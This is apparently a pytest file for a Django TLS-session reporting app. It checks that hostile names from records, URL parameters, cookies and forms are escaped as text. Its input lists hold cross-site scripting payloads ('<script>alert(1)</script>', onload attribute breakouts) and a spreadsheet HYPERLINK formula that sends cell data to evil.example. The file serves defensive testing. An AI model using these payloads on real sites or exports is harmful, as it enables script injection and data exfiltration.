"""Names out of foreign records and files are text on every page, never markup."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from analyzer import audit
from analyzer.models import (
    Certificate,
    Import,
    ImportPath,
    Protection,
    ProtectionCertificate,
    Reject,
    SecuritySession,
    Server,
    Stack,
    SystemSettings,
)
from tests.analyzer.views.conftest import signed_in, taken_back
from tests.analyzer.views.page import Page
from tests.builders import store_rows

pytestmark = pytest.mark.django_db
NOW = datetime(2026, 4, 1, tzinfo=UTC)
NAMES = [
    "<zz x=1>",
    '"zz="1"',
    "'zz='1'",
    "</zz>&lt",
    "{{ zz }}",
    "{%zz%}",
    "=zz+1+2",
    "\u202ezz\u2400",
]
LONG = (
    "CN=<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?"&A1;"zz")',
    '" zzonload="alert(1)" x="',
    "' zzonload='alert(1)' x='",
    "--></textarea></title></style></script><zz-evil>",
    "\u202eevil\u2066 \u2400 \U0001f600",
    "CN=" + "x" * 3000,
    "&lt;zz&gt; &amp; &#60;zz&#62;",
)


def protection(number: int, text: str) -> Protection:
    return Protection.objects.create(
        digest=f"hostile {number}".encode(),
        protocol="TLS",
        raw={"tls": {"cipher": "1302"}},
        tables_version="1",
        title=text,
        labels={"dn_tls_server_subject": text, "version": text[:20], "cipher": text},
        details=[
            {
                "group": "dn",
                "name": text,
                "text": text,
                "code": text,
                "meaning": text,
                "confidence": "recalled",
                "source": text,
                "strength": "weak",
                "basis": text,
                "basis_confidence": "recalled",
            }
        ],
        version=text[:20],
        strength="weak",
        reason=text,
        confidence="recalled",
        mismatch=text,
        dn_text=text,
    )


def make_session(number: int, name: str, text: str) -> None:
    names = {"sysplex": name, "system": name}
    zone = SystemSettings.objects.create(**names)
    stack = Stack.objects.create(**names, stack=name, settings=zone, release=name)
    server = Server.objects.create(
        stack=stack,
        role="server",
        ip_proto=6,
        server_ip="10.0.0.1",
        port_start=number,
        port_end=number,
        job=name,
        user=name,
    )
    session = SecuritySession.objects.create(
        digest=f"hostile {number}".encode(),
        server=server,
        client_ip="192.0.2.1",
        protection=protection(number, text),
        sa_flags=0,
        session_id=name,
    )
    certificate = Certificate.objects.create(
        digest=f"hostile {number}".encode(),
        identity="names",
        subject=text,
        issuer=text,
        subject_name=text,
        key_type=name,
        not_after_text=name,
    )
    ProtectionCertificate.objects.create(
        protection=session.protection, certificate=certificate, part="server"
    )
    noons = (datetime(2026, 3, 1, 12), datetime(2026, 3, 31, 12))
    store_rows.store_activity([store_rows.activity(session, noon, connections=1) for noon in noons])


def make_import(name: str, text: str) -> None:
    imported = Import.objects.create(
        source="upload",
        name=text[:1024],
        path=text[:1024],
        comment=text[:200],
        submitted_at=NOW,
        state="failed",
        finished_at=NOW,
        error=text,
        advice=text,
        framing=name,
        framing_reason=text,
        wrapper=name,
        ignored={text: 1},
        rejected=1,
    )
    words = {"field": text[:64], "reason": text[:40], "message": text}
    given = {"offset": 0, "record_number": 1, "length": 1, "head": b"<zz>"}
    Reject.objects.create(imported=imported, **words, **given)


def fill() -> None:
    for number, (name, text) in enumerate(zip(NAMES, LONG, strict=True)):
        make_session(number, name, text)
        make_import(name, text)
        ImportPath.objects.create(path=text[:1024], comment=text[:200], added_at=NOW)
        audit.record(by=None, action="x", target=text, data={text: [text]}, now=NOW)


@pytest.fixture(scope="module")
def administrator(django_db_setup: None, django_db_blocker: Any) -> Iterator[Client]:
    with django_db_blocker.unblock(), taken_back():
        fill()
        yield signed_in("administrator")


def clean(answer: Any) -> Page:
    """The page, which has no tag and no attribute that was planted."""
    page = Page(answer)
    for tag, found in page.tags:
        assert not tag.startswith("zz"), tag
        assert not [name for name in found if name.startswith(("zz", "on"))], found
    assert "alert(1)" not in "".join(
        part.partition("</script>")[0] for part in answer.content.decode().split("<script")[1:]
    )
    assert not page.all("textarea")
    return page


def held(page: Page) -> str:
    """Everything that a reader or a screen reader may come upon, blanks as one."""
    attributes = [value for _, found in page.tags for value in found.values()]
    return " ".join(" ".join([page.text, *attributes]).split())


def plain(text: str) -> str:
    return " ".join(text.split())


@pytest.mark.parametrize("name", ["servers", "sessions", "systems"])
def test_names_of_eight_characters_are_text(administrator: Client, name: str) -> None:
    server = Server.objects.earliest("pk").pk
    path = {
        "servers": f"{reverse('report_servers')}?days=all",
        "sessions": reverse("report_sessions", args=[server]) + "?columns=job,user,session_id",
        "systems": reverse("settings_systems"),
    }[name]
    text = held(clean(administrator.get(path)))
    for one in NAMES[:1] if name == "sessions" else NAMES:
        assert plain(one) in text, one


def test_long_texts_are_text_in_every_table(administrator: Client) -> None:
    detail = "detail=dn&columns=dn_tls_server_subject"
    pages = {
        "audit": reverse("settings_audit"),
        "paths": reverse("data_import"),
    }
    texts = {name: held(clean(administrator.get(path))) for name, path in pages.items()}
    for text in LONG:
        assert plain(text)[:900] in texts["audit"]
        assert plain(text[:200]) in texts["paths"]
    for server in Server.objects.order_by("pk"):
        path = reverse("report_sessions", args=[server.pk])
        page = clean(administrator.get(f"{path}?days=all&{detail}"))
        (session,) = server.sessions.all()
        assert page.rows == [[plain(session.protection.dn_text)]]


def test_a_session_page_shows_them_as_they_are(administrator: Client) -> None:
    for session in SecuritySession.objects.order_by("pk"):
        page = clean(administrator.get(reverse("report_session", args=[session.pk])))
        text = plain(session.protection.title)
        assert page.facts["Reason"] == text
        assert page.tables[0][1][:3] == [text, text, text]
        assert page.facts["Job name"] == plain(session.server.job)


def test_certificates_show_them_as_they_are(administrator: Client) -> None:
    found = held(clean(administrator.get(f"{reverse('report_certificates')}?days=all")))
    for certificate in Certificate.objects.order_by("pk"):
        text = plain(certificate.subject)
        assert text in found
        path = reverse("report_certificate", args=[certificate.pk])
        page = clean(administrator.get(f"{path}?days=all"))
        assert page.facts["Subject"] == page.facts["Issuer"] == text
        name = plain(
            SecuritySession.objects.get(
                protection__certificates__certificate=certificate
            ).server.job
        )
        assert name in held(page)


@pytest.mark.parametrize("grain", ["server", "service", "client", "protection"])
def test_a_comparison_shows_them_as_they_are(administrator: Client, grain: str) -> None:
    days = "from=2026-03-31&to=2026-03-31&a_from=2026-03-01&a_to=2026-03-01"
    path = f"{reverse('report_compare')}?{days}&by={grain}&status=all&columns=all"
    page = clean(administrator.get(path))
    texts = LONG if grain == "protection" else NAMES
    assert len(page.rows) == len(NAMES)
    for text in texts:
        assert plain(text) in held(page), text


def test_an_import_and_its_rejects_show_them_as_they_are(administrator: Client) -> None:
    clean(administrator.get(reverse("data_history")))
    for imported in Import.objects.order_by("pk"):
        page = clean(administrator.get(reverse("data_import_detail", args=[imported.pk])))
        assert plain(imported.comment) in page.text
        assert page.facts["Name"] == plain(imported.name)
        rejects = clean(administrator.get(reverse("data_rejects", args=[imported.pk])))
        assert plain(imported.error) in held(rejects)
        one = imported.rejects.get()
        page = clean(administrator.get(reverse("data_reject", args=[imported.pk, one.pk])))
        assert plain(one.message)[1:] in page.text


@pytest.mark.parametrize("text", [*LONG, "\0", "\ud800".encode("utf-8", "surrogatepass")])
def test_what_an_address_says_is_text_on_the_page(administrator: Client, text: Any) -> None:
    report, own = reverse("report_servers"), text if isinstance(text, str) else "x"
    for name in ("job", "dn", "days", "from", "protocol", "sort", "columns", "show", "after", own):
        answer = administrator.get(report, {name: text})
        assert answer.status_code in {200, 400}
        clean(answer)
    clean(administrator.get(reverse("query"), {"job": text, "server_ip": text}))
    clean(administrator.get(reverse("data_history"), {"after": text}))
    answer = administrator.get(reverse("report_servers"), {"job": text, "format": "csv"})
    if answer.status_code == 400:
        clean(answer)
    else:
        assert answer.getvalue()


def test_cookies_are_not_trusted(administrator: Client) -> None:
    administrator.cookies["theme"] = '"><zz-evil>'
    clean(administrator.get(reverse("report_servers")))
    del administrator.cookies["theme"]


def test_what_is_typed_comes_back_as_text(administrator: Client) -> None:
    for text in LONG:
        given = {"username": text, "role": text, "path": text, "comment": text}
        for name in ("settings_user_new", "data_path_add", "data_upload"):
            answer = administrator.post(reverse(name), given)
            assert answer.status_code == 422
            clean(answer)
        given = {"username": text, "password": text, "next": text}
        clean(Client(REMOTE_ADDR=str(hash(text))).post(reverse("sign_in"), given))
        system = SystemSettings.objects.earliest("pk").pk
        given = {"time_zone": text, "code_page": text}
        answer = administrator.post(reverse("settings_system", args=[system]), given)
        assert answer.status_code == 422
        clean(answer)
